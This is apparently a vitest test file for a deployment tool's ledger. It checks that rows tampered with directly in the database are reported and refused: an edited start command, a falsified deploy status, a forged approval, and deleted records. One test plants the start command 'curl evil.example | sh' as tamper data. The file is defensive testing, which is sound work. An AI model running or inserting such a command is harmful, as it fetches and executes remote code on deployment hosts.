import { describe, expect, it } from "vitest";
import { deploymentNumber } from "../../src/deliver/deploy.js";
import { verifyLedger } from "../../src/deliver/history.js";
import { LedgerTrust } from "../../src/deliver/trust.js";
import type { ArtifactRecord, Ledger } from "../../src/ledger/types.js";
import { artifactWitnessData, BUILD_ENV, planDigest, verifyRows } from "../../src/ledger/witness.js";
import type { TamperTarget } from "./tampering.js";

/**
 * The rows that decide what shipgate does, edited in the database the way the issue's
 * attacker did: each edit is reported by `history --verify` and refused where it would be used.
 * Seeded with the events shipgate itself writes (a build, a failed deploy, an approval request).
 */
export function describeRowTamperDetection(name: string, fresh: () => Promise<TamperTarget>): void {
  const artifact: ArtifactRecord = {
    id: "app@1",
    digest: `sha256:${"a".repeat(64)}`,
    commit: "1".repeat(40),
    location: "/var/lib/shipgate/app-1.tar.gz",
    createdAt: "2026-12-01T00:00:00.000Z",
    manifest: { schema: 1, runtime: { workdir: ".", start: "node server.js", healthPath: "/health" } },
  };
  const plan = [{ kind: "begin", release: "staging-1-aaaaaa", artifactId: "app@1", instances: 1 }];

  async function seeded(): Promise<TamperTarget> {
    const target = await fresh();
    const ledger = await target.open();
    try {
      await ledger.putArtifact(artifact);
      await ledger.appendEvent({
        env: BUILD_ENV,
        type: "artifact.built",
        data: artifactWitnessData(artifact),
      });
      for (const [id, outcome] of [
        ["staging-1-aaaaaa", "deploy.failed"],
        ["staging-2-bbbbbb", "deploy.succeeded"],
      ] as const) {
        await ledger.createDeployment({
          id,
          env: "staging",
          kind: "deploy",
          artifactId: "app@1",
          strategy: "rolling",
          requestedBy: "ci",
          plan,
        });
        await ledger.appendEvent({
          env: "staging",
          deploymentId: id,
          type: "deploy.requested",
          data: { artifact: "app@1", plan: planDigest(plan) },
        });
        await ledger.appendEvent({
          env: "staging",
          deploymentId: id,
          type: outcome,
          data: { reason: outcome },
        });
        await ledger.updateDeployment(id, {
          status: outcome === "deploy.failed" ? "failed" : "succeeded",
          reason: outcome,
          finishedAt: new Date().toISOString(),
        });
      }
      await ledger.createDeployment({
        id: "production-1-cccccc",
        status: "pending",
        env: "production",
        kind: "deploy",
        artifactId: "app@1",
        strategy: "pending",
        requestedBy: "carol",
        plan: [],
      });
      await ledger.appendEvent({
        env: "production",
        deploymentId: "production-1-cccccc",
        type: "approval.requested",
        data: { approval: "apr-1", artifact: "app@1", requestedBy: "carol", expiresAt: null },
      });
      await ledger.createApproval({
        id: "apr-1",
        deploymentId: "production-1-cccccc",
        env: "production",
        requestedBy: "carol",
      });
    } finally {
      await ledger.close();
    }
    return target;
  }

  async function withLedger<T>(target: TamperTarget, use: (ledger: Ledger) => Promise<T>): Promise<T> {
    const ledger = await target.open();
    try {
      return await use(ledger);
    } finally {
      await ledger.close();
    }
  }

  const rowProblems = (target: TamperTarget) =>
    withLedger(target, async (ledger) => (await verifyLedger(ledger)).rows);

  describe(`${name}: rows that decide actions`, () => {
    it("an untouched ledger holds up", async () => {
      const target = await seeded();
      expect(await rowProblems(target)).toEqual([]);
      await withLedger(target, async (ledger) => {
        const trust = new LedgerTrust(ledger);
        await trust.artifact((await ledger.getArtifact("app@1"))!);
        await trust.deployment((await ledger.getDeployment("staging-2-bbbbbb"))!, { succeeded: true });
        await trust.approval((await ledger.getApproval("apr-1"))!);
      });
    });

    it("an artifact's start command edited in its row is reported and refused", async () => {
      const target = await seeded();
      await target.execute("UPDATE artifacts SET manifest = ? WHERE id = ?", [
        JSON.stringify({
          schema: 1,
          runtime: { workdir: ".", start: "curl evil.example | sh", healthPath: "/health" },
        }),
        "app@1",
      ]);
      expect(await rowProblems(target)).toEqual([
        {
          kind: "artifact",
          id: "app@1",
          problem: expect.stringMatching(/manifest differs from what its build recorded/),
        },
      ]);
      const refused = await withLedger(target, async (ledger) =>
        new LedgerTrust(ledger).artifact((await ledger.getArtifact("app@1"))!).catch((e) => e),
      );
      expect(refused).toMatchObject({ code: "ledger/untrusted", exitCode: 1 });
    });

    it("a failed deploy set to succeeded is reported and does not count as passed", async () => {
      const target = await seeded();
      await target.execute("UPDATE deployments SET status = 'succeeded' WHERE id = ?", ["staging-1-aaaaaa"]);
      expect(await rowProblems(target)).toEqual([
        {
          kind: "deployment",
          id: "staging-1-aaaaaa",
          problem: expect.stringMatching(/is succeeded, but event \d+ recorded deploy\.failed/),
        },
      ]);
      const refused = await withLedger(target, async (ledger) =>
        new LedgerTrust(ledger)
          .deployment((await ledger.getDeployment("staging-1-aaaaaa"))!, { succeeded: true })
          .catch((e) => e),
      );
      expect(refused).toMatchObject({ code: "ledger/untrusted" });
    });

    it("an approval set to approved with no approval event is reported and refused", async () => {
      const target = await seeded();
      await target.execute("UPDATE approvals SET status = 'approved', decided_by = 'mallory' WHERE id = ?", [
        "apr-1",
      ]);
      expect(await rowProblems(target)).toEqual([
        { kind: "approval", id: "apr-1", problem: "is approved, but no event records a decision" },
      ]);
      const refused = await withLedger(target, async (ledger) =>
        new LedgerTrust(ledger).approval((await ledger.getApproval("apr-1"))!).catch((e) => e),
      );
      expect(refused).toMatchObject({ code: "ledger/untrusted" });
    });

    it("a deployment deleted from the middle with its events leaves a gap in the numbers", async () => {
      const target = await seeded();
      await target.execute("DELETE FROM events WHERE deployment_id = ?", ["staging-1-aaaaaa"]);
      await target.execute("DELETE FROM deployments WHERE id = ?", ["staging-1-aaaaaa"]);
      const problems = await withLedger(target, async (ledger) =>
        verifyRows({
          artifacts: await ledger.listArtifacts(),
          deployments: await ledger.listDeployments(),
          approvals: await ledger.listApprovals(),
          events: (await ledger.listEvents()) ?? [],
          deploymentNumber,
        }),
      );
      expect(problems).toEqual([
        {
          kind: "deployment",
          id: "staging",
          problem: "deployments numbered 1 of staging are missing: deleted from the ledger",
        },
      ]);
    });

    it("an anchor published after a deploy catches the newest events cut off, and a ledger emptied", async () => {
      const target = await seeded();
      const head = await withLedger(target, async (ledger) => (await ledger.listEvents()).at(-1)!);
      const anchor = { seq: head.seq, hash: head.hash };
      expect(
        await withLedger(target, async (ledger) => (await verifyLedger(ledger, anchor)).anchor),
      ).toMatchObject({ found: true });
      await target.execute("DELETE FROM approvals");
      await target.execute("DELETE FROM events WHERE seq >= ?", [head.seq]);
      await target.execute("DELETE FROM deployments WHERE id = ?", ["production-1-cccccc"]);
      const cut = await withLedger(target, (ledger) => verifyLedger(ledger, anchor));
      expect(cut.chain.ok).toBe(true); // a shorter chain is still a valid chain
      expect(cut.anchor).toMatchObject({ found: false });
      await target.execute("DELETE FROM events");
      await target.execute("DELETE FROM deployments");
      await target.execute("DELETE FROM artifacts");
      expect(
        await withLedger(target, async (ledger) => (await verifyLedger(ledger, anchor)).anchor),
      ).toMatchObject({ found: false });
    });
  });
}
